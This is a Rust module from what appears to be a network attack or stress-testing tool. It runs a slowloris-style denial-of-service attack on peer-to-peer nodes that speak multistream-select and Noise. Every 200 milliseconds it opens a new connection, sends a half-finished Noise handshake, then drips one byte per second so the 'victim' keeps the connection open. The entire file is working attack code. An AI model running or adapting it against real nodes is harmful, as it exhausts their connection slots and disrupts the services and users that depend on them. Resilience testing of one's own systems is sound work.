//! Connections that are never set up.

use super::Means;
use futures::{FutureExt as _, future::BoxFuture};
use std::time::Duration;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{interval, sleep},
};

/// How long a connection is kept. The victim ends it sooner.
const STAY: Duration = Duration::from_secs(20);

/// How often there is a new one.
const PACE: Duration = Duration::from_millis(200);

/// What a connection begins with, and the choice of how it is encrypted. Source: multistream-select 1.0.
const OPENING: &[u8] = b"\x13/multistream/1.0.0\n\x07/noise\n";

/// A handshake of Noise of a hundred bytes, of which there are ten.
const HALF: &[u8] = &[0, 100, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10];

/// Begins to encrypt, and goes on with a byte a second.
pub(super) fn start(means: Means) -> BoxFuture<'static, ()> {
    async move {
        let mut begun = JoinSet::new();
        let mut turns = interval(PACE);
        loop {
            turns.tick().await;
            while begun.try_join_next().is_some() {}
            begun.spawn(begin(means.clone()));
        }
    }
    .boxed()
}

async fn begin(means: Means) {
    means.tally.connection();
    let Ok(mut stream) = TcpStream::connect(means.target.socket).await else { return };
    let say = async {
        stream.write_all(OPENING).await?;
        let mut answer = [0; OPENING.len()];
        stream.read_exact(&mut answer).await?;
        stream.write_all(HALF).await?;
        means.tally.message(OPENING.len() + HALF.len());
        loop {
            sleep(Duration::from_secs(1)).await;
            stream.write_all(&[0]).await?;
        }
    };
    // The victim ends it.
    let _: Result<Result<(), std::io::Error>, _> = tokio::time::timeout(STAY, say).await;
}
